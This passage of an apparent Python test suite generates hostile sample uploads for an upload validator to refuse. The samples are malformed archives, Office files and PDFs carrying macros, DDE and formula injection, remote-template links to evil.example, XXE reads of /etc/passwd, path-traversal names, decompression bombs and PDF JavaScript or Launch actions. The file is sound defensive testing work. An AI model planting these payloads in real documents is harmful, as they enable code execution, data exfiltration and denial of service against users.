    yield "small overlap/x.zip", overlapping(5, 1000)
    nested = b"x"
    for _ in range(8):
        nested = packed([("a.zip", nested)])
    yield "nested/x.zip", nested
    for name, data in (("in.zip", simple), ("data", gzip.compress(b"x")), ("data", lzma.compress(b"x" * 50)), ("a.tar", _tar()), ("t", _tar()), ("a.7z", b"7z\xbc\xaf\x27\x1c"),
                       ("run.exe", MZ), ("readme", MZ), ("tool", ELF), ("tool", MACHO), ("X.class", CLASS), ("a.doc", OLE), ("readme", OLE), ("go.bat", b"x"), ("a.lnk", b"x"),
                       ("a.vbs", b"x"), ("a.ps1", b"x"), ("a.hta", PAGE), ("a.docm", word()), ("lib.jar", simple), ("a.rtf", RTF), ("a.odt", simple)):  # fmt: skip
        yield f"{name} in/x.zip", packed([("ok.txt", b"x"), (name, data)])
    yield "macros in/x.zip", packed([("a.docx", repacked(word(), {"word/vbaProject.bin": OLE}))])
    yield "script pdf in/x.zip", packed([("a.pdf", _javascript_pdf())])
    for name in (
        "../a.txt",
        "/etc/passwd",
        "a/../../b.txt",
        "C:\\a.txt",
        "..\\a.txt",
        "a\\b.txt",
        "a\x1b.txt",
        "a//b.txt",
        "./a.txt",
        "a\u202etxt.exe.txt",
        "n" * 600,
        "C:a.txt",
        "..",
        "a/.. /b.txt",
    ):
        yield "path/x.zip", _entry_named(name)
    yield "symlink/x.zip", _entry_named("a", mode=0o120777, data=b"/etc/passwd")
    yield "device/x.zip", _entry_named("a", mode=0o020666)
    yield "pipe/x.zip", _entry_named("a", mode=0o010666)
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("a.txt", b"1")
        archive.writestr("A.txt", b"2")
    yield "twice/x.zip", output.getvalue()
    yield "encrypted/x.zip", _patched(simple, (LOCAL, 6, b"\x01\0"), (CENTRAL, 8, b"\x01\0"))
    yield "encrypted here/x.zip", _patched(simple, (LOCAL, 6, b"\x01\0"))
    yield "two names/x.zip", _patched(simple, (LOCAL, 30, b"c.exe"))
    yield "two sizes/x.zip", _patched(simple, (CENTRAL, 24, b"\xff\0\0\0"))
    yield "two methods/x.zip", _patched(simple, (LOCAL, 8, b"\0\0"))
    yield "crc/x.zip", _patched(simple, (LOCAL, 14, b"abcd"), (CENTRAL, 16, b"abcd"))
    yield "larger/x.zip", _patched(simple, (LOCAL, 22, b"\x05\0\0\0"), (CENTRAL, 24, b"\x05\0\0\0"))
    yield "lzma/x.zip", packed([("a.txt", b"x" * 99)], zipfile.ZIP_LZMA)
    yield "bzip2/x.zip", packed([("a.txt", b"x" * 99)], zipfile.ZIP_BZIP2)
    yield "count/x.zip", _patched(simple, (END, 8, b"\x01\0\x01\0"))
    yield "offset/x.zip", _patched(simple, (END, 16, b"\0\0\0\0"))
    yield "cut/x.zip", simple[:-30]
    yield "end only/x.zip", simple[simple.find(END) :]
    yield "no directory/x.zip", simple[: simple.find(CENTRAL)]
    yield "gap/x.zip", _gap(simple)
    yield "package/x.zip", word()
    yield "epub/x.zip", packed([("mimetype", b"application/epub+zip"), ("x.html", PAGE)])
    yield "jar/x.zip", packed([("META-INF/MANIFEST.MF", b"x")])


def _gap(data: bytes) -> bytes:
    """Return an archive with bytes between its entries and the directory, which no entry owns."""
    at, hidden = data.find(CENTRAL), MZ
    made = bytearray(data[:at] + hidden + data[at:])
    end = made.find(END)
    made[end + 16 : end + 20] = struct.pack("<I", at + len(hidden))
    return bytes(made)


def _content_type(kind: bytes, data: bytes, main: bytes) -> bytes:
    return replaced(data, "[Content_Types].xml", main, kind)


def _relation(kind: bytes, target: bytes, base: bytes = b"", part: str = "word/_rels/document.xml.rels") -> bytes:
    """Return a document (or `base`) with one more relation outwards."""
    relation = (
        b'<Relationship Id="rX" Type="'
        + _REL
        + kind
        + b'" Target="'
        + target
        + b'" TargetMode="External"/></Relationships>'
    )
    return replaced(base or word(), part, b"</Relationships>", relation)


def _field(instruction: bytes) -> bytes:
    return replaced(word(), "word/document.xml", b"<w:body>", b"<w:body><w:p><w:r>" + instruction + b"</w:r></w:p>")


def _bad_office() -> Files:
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    yield "macros/x.docx", repacked(word(), {"word/vbaProject.bin": OLE})
    yield "macros/x.xlsx", repacked(workbook(), {"xl/vbaProject.bin": OLE})
    yield "macros/x.pptx", repacked(slides(), {"ppt/vbaProject.bin": OLE})
    yield "docm/x.docx", _content_type(b"application/vnd.ms-word.document.macroEnabled.main+xml", word(), main)
    yield "template/x.docx", _content_type(main.replace(b"document.main", b"template.main"), word(), main)
    yield "renamed macros/x.docx", repacked(word(), {"word/data.bin": OLE})
    yield "hidden program/x.docx", repacked(word(), {"word/media/image9.png": MZ})
    yield "elf/x.pptx", repacked(slides(), {"ppt/media/a.bin": ELF})
    yield "activex/x.docx", repacked(word(), {"word/activeX/activeX1.xml": b"<a/>"})
    yield "ole/x.docx", repacked(word(), {"word/embeddings/oleObject1.bin": OLE})
    yield "package/x.docx", repacked(word(), {"word/embeddings/a.zip": packed([("run.exe", MZ)])})
    yield (
        "embedded macros/x.pptx",
        repacked(slides(), {"ppt/embeddings/a.xlsx": repacked(workbook(), {"xl/vbaProject.bin": OLE})}),
    )
    yield "embedded docm/x.pptx", repacked(slides(), {"ppt/embeddings/a.docm": word()})
    yield "rtf/x.docx", repacked(word(), {"word/afchunk.rtf": RTF})
    yield "html chunk/x.docx", repacked(word(), {"word/a.html": PAGE})
    yield "flash/x.pptx", repacked(slides(), {"ppt/media/a.bin": b"CWS\x0a" + bytes(50)})
    yield "excel 4/x.xlsx", repacked(workbook(), {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet xmlns:xm='x'/>"})
    yield (
        "dde/x.xlsx",
        repacked(
            workbook(),
            {
                "xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
            },
        ),
    )
    yield "formula/x.xlsx", workbook(b'<c><f>WEBSERVICE("http://x")</f></c>')
    yield "formula pipe/x.xlsx", workbook(b"<c><f>cmd|'/c calc'!A0</f></c>")
    for target in (
        b"http://evil.example/t.dotm",
        b"https://evil.example/t",
        b"\\\\evil\\share\\t.dotm",
        b"file:///\\\\evil\\t.dotm",
        b"file://evil/t.dotm",
        b"mhtml:http://x!x",
    ):
        yield "template/x.docx", _relation(b"attachedTemplate", target)
    for kind in (b"oleObject", b"frame", b"subDocument", b"image", b"aFChunk"):
        yield f"{kind.decode()}/x.docx", _relation(kind, b"http://evil.example/x")
    yield "msdt/x.docx", _relation(b"oleObject", b"mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html")
    for target in (
        b"javascript:alert(1)",
        b"\\\\evil\\share",
        b"file:////evil/share",
        b"ms-msdt:/id",
        b"search-ms:query=x",
        b"vbscript:x",
        b"data:text/html,x",
    ):
        yield "link/x.docx", _relation(b"hyperlink", target)
    yield "external/x.pptx", _relation(b"oleObject", b"http://x", slides(), "ppt/slides/_rels/slide1.xml.rels")
    yield (
        "action/x.pptx",
        replaced(
            slides(), "ppt/slides/slide1.xml", b"<p:cSld", b'<!-- a --><p:cSld a="1" x:action="ppaction://program" '
        ),
    )
    yield "dde/x.docx", _field(b'<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>')
    yield "split dde/x.docx", _field(b"<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd</w:instrText>")
    yield "simple dde/x.docx", _field(b'<w:fldSimple w:instr="DDE cmd /k"/>')
    yield "quote/x.docx", _field(b"<w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText>")
    yield "include/x.docx", _field(b'<w:instrText>INCLUDEPICTURE "\\\\evil\\x.png"</w:instrText>')
    yield (
        "laughs/x.docx",
        replaced(word(), "word/document.xml", b"<w:document", b'<!DOCTYPE l [<!ENTITY a "ha">]><w:document'),
    )
    yield "laughs/x.xlsx", repacked(workbook(), {"xl/workbook.xml": LAUGHS})
    yield "laughs in types/x.docx", repacked(word(), {"[Content_Types].xml": LAUGHS})
    yield (
        "utf-16 laughs/x.xlsx",
        repacked(
            workbook(), {"xl/workbook.xml": LAUGHS.decode().replace('1.0"', '1.0" encoding="utf-16"').encode("utf-16")}
        ),
    )
    yield (
        "external entity/x.docx",
        repacked(word(), {"word/settings.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}),
    )
    yield "utf-7/x.docx", repacked(word(), {"word/settings.xml": b'<?xml version="1.0" encoding="utf-7"?>+ADw-a/+AD4-'})
    yield "bomb/x.docx", repacked(word(), {"word/document.xml": b"<a>" + b" " * (50 * MB) + b"</a>"})
    yield "no types/x.docx", repacked(word(), {"[Content_Types].xml": None})
    yield "no relations/x.docx", repacked(word(), {"_rels/.rels": None})
    yield "no document/x.docx", repacked(word(), {"word/document.xml": None})
    yield "only types/x.docx", packed([("[Content_Types].xml", b"<Types/>")])
    yield "plain zip/x.docx", packed([("word/document.xml", b"<a/>")])
    yield "broken types/x.docx", repacked(word(), {"[Content_Types].xml": b"<Types"})
    yield "svg/x.docx", repacked(word(), {"word/media/a.svg": SVG})
    yield "pane/x.docx", repacked(word(), {"word/webextensions/taskpanes.xml": b"<a/>"})
    yield "customised/x.docx", repacked(word(), {"word/vbaData.xml": b"<a/>"})
    yield "cut/x.docx", word()[:-100]
    yield "old/x.docx", OLE
    yield "old/x.xlsx", OLE


def _javascript_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(99, 99)
    script = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), writer._add_object(script)])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})
    return written(writer)


def _pdf_with(where: str, action: dict[str, str]) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(99, 99)
    made = DictionaryObject(
        {
            NameObject(key): NameObject(value) if value.startswith("/") else TextStringObject(value)
            for key, value in action.items()
        }
    )
    if where == "annotation":
        page[NameObject("/Annots")] = ArrayObject(
            [
                DictionaryObject(
                    {
                        NameObject("/Type"): NameObject("/Annot"),
                        NameObject("/Subtype"): NameObject("/Link"),
                        NameObject("/A"): made,
                    }
                )
            ]
        )
    elif where == "page":
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): made})
    else:
        writer._root_object[NameObject("/OpenAction")] = made
    return written(writer)


def _stream_pdf(data: bytes, keys: dict[str, object]) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(99, 99)
    stream = DecodedStreamObject()
    stream.set_data(data)
    stream.update({NameObject(key): value for key, value in keys.items()})
    page[NameObject("/Contents")] = writer._add_object(stream)
    return written(writer)


def _bad_pdfs() -> Files:
    yield "script/x.pdf", _javascript_pdf()
    escaped = _javascript_pdf().replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4a#53")
    yield "escaped/x.pdf", escaped
    for where in ("annotation", "page", "open"):
        for action in (
            {"/S": "/JavaScript", "/JS": "x"},
            {"/S": "/Launch", "/F": "cmd.exe"},
            {"/S": "/SubmitForm", "/F": "http://x"},
            {"/S": "/GoToE", "/D": "x"},
            {"/S": "/ImportData", "/F": "x"},
        ):
            yield f"{where}/x.pdf", _pdf_with(where, action)
    yield "open uri/x.pdf", _pdf_with("open", {"/S": "/URI", "/URI": "http://evil.example"})
    yield "page uri/x.pdf", _pdf_with("page", {"/S": "/URI", "/URI": "http://evil.example"})
    yield "share/x.pdf", _pdf_with("annotation", {"/S": "/GoToR", "/F": "\\\\evil\\share", "/D": "x"})
    yield "link/x.pdf", _pdf_with("annotation", {"/S": "/URI", "/URI": "javascript:alert(1)"})
    writer = PdfWriter()
    writer.add_blank_page(99, 99)
    writer.add_attachment("run.exe", MZ)
    yield "attachment/x.pdf", written(writer)
    writer = PdfWriter()
    writer.add_blank_page(99, 99)
    writer.encrypt("secret", algorithm="RC4-128")
    yield "encrypted/x.pdf", written(writer)
    writer = PdfWriter()
    writer.add_blank_page(99, 99)
    writer.encrypt("", "owner", algorithm="RC4-128")
    yield "owner encrypted/x.pdf", written(writer)
    for hidden in (
        b"<</S/JavaScript/JS(app.alert(1))>>",
        b"<</S/Launch/F(cmd.exe)>>",
        b"<</S/J#61vaScript/#4aS(x)>>",
        b"<</Type/Filespec/F(x)/EF<</F 4 0 R>>>>",
        b"<</Subtype/RichMedia>>",
        b"<</XFA[(a)4 0 R]>>",
        b"<</Subtype/Screen>>",
        b"<</Subtype/FileAttachment>>",
    ):
        yield "object stream/x.pdf", object_stream_pdf([hidden])
    yield "deep/x.pdf", object_stream_pdf([b"[" * 300 + b"]" * 300])
    yield "very deep/x.pdf", object_stream_pdf([b"[" * 30000 + b"]" * 30000])
    yield "encrypted stream/x.pdf", object_stream_pdf([], b"/Encrypt 10 0 R")
    bomb = zlib.compress(bytes(80 * MB), 9)
    yield "bomb/x.pdf", _stream_pdf(bomb, {"/Filter": NameObject("/FlateDecode")})
    yield (
        "double bomb/x.pdf",
        _stream_pdf(zlib.compress(bomb, 9), {"/Filter": ArrayObject([NameObject("/FlateDecode")] * 2)}),
    )
    yield "many filters/x.pdf", _stream_pdf(b"x", {"/Filter": ArrayObject([NameObject("/ASCIIHexDecode")] * 30)})
    yield (
        "picture bomb/x.pdf",
        _stream_pdf(
            bomb,
            {
                "/Filter": NameObject("/FlateDecode"),
                "/Subtype": NameObject("/Image"),
                "/Width": NumberObject(60000),
                "/Height": NumberObject(60000),
            },
        ),
    )
    yield "elsewhere/x.pdf", _stream_pdf(b"", {"/F": TextStringObject("\\\\evil\\x")})
    document = pdf()
    yield "cut/x.pdf", document[: len(document) // 2]
    yield "no end/x.pdf", document.replace(b"%%EOF", b"")
    yield "header only/x.pdf", b"%PDF-1.7\n%%EOF\n"
    yield "no pages/x.pdf", written_without_pages()
    yield (
        "loop/x.pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R/Size 3>>\nstartxref\n9\n%%EOF\n",
    )
    yield "shadow/x.pdf", document.replace(b"xref\n", b"99 0 obj\n<</S/JavaScript/JS(x)>>\nendobj\nxref\n", 1)
    yield "two/x.pdf", document + b"\n" + document
    lost = zlib.compress(b"9 0 <</S/JavaScript/JS(x)>>")
    yield (
        "lost stream/x.pdf",
        document.replace(
            b"xref\n",
            b"98 0 obj\n<</Type/Obj#53tm/N 1/First 4/Filter/FlateDecode>>\nstream\n"
            + lost
            + b"\nendstream\nendobj\nxref\n",
            1,
        ),
    )
    for what, payload in (
        ("page", PAGE),
        ("rar", b"Rar!\x1a\x07\x01\0"),
        ("7z", b"7z\xbc\xaf\x27\x1c"),
        ("zip", packed([("a", b"x")])),
    ):
        yield f"{what} in a stream/x.pdf", _stream_pdf(payload, {})
    yield "tar/x.pdf", document[:9] + b"%" + bytes(247) + b"ustar\n" + document[9:]
    yield "noise/x.pdf", b"%PDF-1.7\n" + random.Random(3).randbytes(5000) + b"\n%%EOF\n"
    yield "fdf/x.pdf", b"%FDF-1.2\n1 0 obj<</FDF<<>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    yield "page in head/x.pdf", b"%PDF-1.4\n" + PAGE + b"\n" + document[9:]


def written_without_pages() -> bytes:
    return b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R/Size 3>>\nstartxref\n9\n%%EOF\n"


def _bad_texts() -> Files:
    for extension in (".txt", ".md", ".csv", ".py", ".json", ".ipynb"):
        yield f"nul/x{extension}", typical().get(extension, b"") + b"\0"
        yield f"late nul/x{extension}", b"words and words\n" * 2000 + b"\0\1\2"
        yield f"escape/x{extension}", b"\x1b]0;title\x07words\n"
        yield f"latin/x{extension}", "Übung".encode("latin-1")
    yield "direction/x.py", "access = 'user\u202e\u2066# check\u2069\u2066'\n".encode()
    yield "dde/x.csv", b"a,b\n=cmd|'/C calc'!A0,1\n"
    yield "dde plus/x.csv", b"a\n+cmd|'/C calc'!A0\n"
    yield "dde at/x.csv", b"a\n@SUM(1+1)*cmd|' /C calc'!A0\n"
    yield "dde quoted/x.csv", b"a,\"=MSEXCEL|'\\..\\cmd.exe /c calc'!A1\"\n"
    yield "link/x.csv", b'a\n=HYPERLINK("http://evil.example/?"&A1,"x")\n'
    yield "web/x.csv", b'a\n=WEBSERVICE("http://evil.example/"&A1)\n'
    yield "deep/x.json", b"[" * 500 + b"]" * 500
    yield "very deep/x.json", b"[" * 1_000_000
    yield "deep objects/x.json", b'{"a":' * 5000 + b"1" + b"}" * 5000
    yield "wide/x.json", b"[" + b"[],[]," * 3_000_000 + b"0]"
    yield "broken/x.json", b'{"a": 1,}'
    yield "words/x.json", b"no json here"
    yield "digits/x.json", b'{"a": 1} trailing'
    yield "notebook/x.json", NOTEBOOK
    yield "object/x.ipynb", b'{"a": 1}'
    yield "list/x.ipynb", b"[1]"
    yield "no cells/x.ipynb", b'{"nbformat": 4, "metadata": {}}'
    yield "odd cells/x.ipynb", b'{"nbformat": 4, "cells": [1, 2]}'
    yield "deep/x.ipynb", b'{"nbformat": 4, "cells": [], "metadata": ' + b'{"a":' * 200 + b"1" + b"}" * 201
    yield "many cells/x.ipynb", json.dumps({"nbformat": 4, "cells": [{"cell_type": "code"}] * 6000}).encode()


# Looking into them


def upload(path: Path, name: str, purpose: str) -> Rejection | None:
    """Do with a file what is done with an upload; return why it is refused, or None when it is taken."""
    try:
        size = path.stat().st_size
        claimed = claimed_type(name, purpose)
        if size > LIMITS[purpose]:
            return Rejection.SIZE
        data = path.read_bytes()
        first_look(data[:HEAD], data[-TAIL:], size, claimed=claimed)
        inspect(path, claimed=claimed)
        if claimed in IMAGES:
            made = path.with_suffix(".made")
            found = reencode(path, made, claimed=claimed, purpose=purpose)
            if found.content_type not in TYPES or not made.stat().st_size:
                return Rejection.DAMAGED
    except RefusedFile as refused:
        return refused.code
    return None


def make(folder: Path) -> None:
    """Write all samples into a folder, and a list of them."""
    listed: list[list[object]] = []
    for is_honest, samples in ((True, honest()), (False, hostile())):
        for sample in samples:
            path = folder / f"{len(listed)}"
            path.write_bytes(sample.data)
            listed.append([sample.label, is_honest, sample.name, sample.purpose])
    (folder / "list.json").write_text(json.dumps(listed))


def look(folder: Path) -> None:
    """Print each sample's label, whether it is honest, what came of it and the seconds it took; and the memory, in bytes."""
    rows = []
    for number, (label, is_honest, name, purpose) in enumerate(json.loads((folder / "list.json").read_text())):
        began = time.monotonic()
        code = upload(folder / f"{number}", name, purpose)
        rows.append([label, is_honest, code, round(time.monotonic() - began, 3)])
    print(json.dumps({"rows": rows, "memory": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024}))


if __name__ == "__main__":
    # In two processes: the memory of a child counts from what its parent had.
    if len(sys.argv) == 3:
        {"make": make, "look": look}[sys.argv[1]](Path(sys.argv[2]))
    else:
        with tempfile.TemporaryDirectory() as made:
            for step in ("make", "look"):
                subprocess.run([sys.executable, "-m", "tests.hostile_files", step, made], check=True)
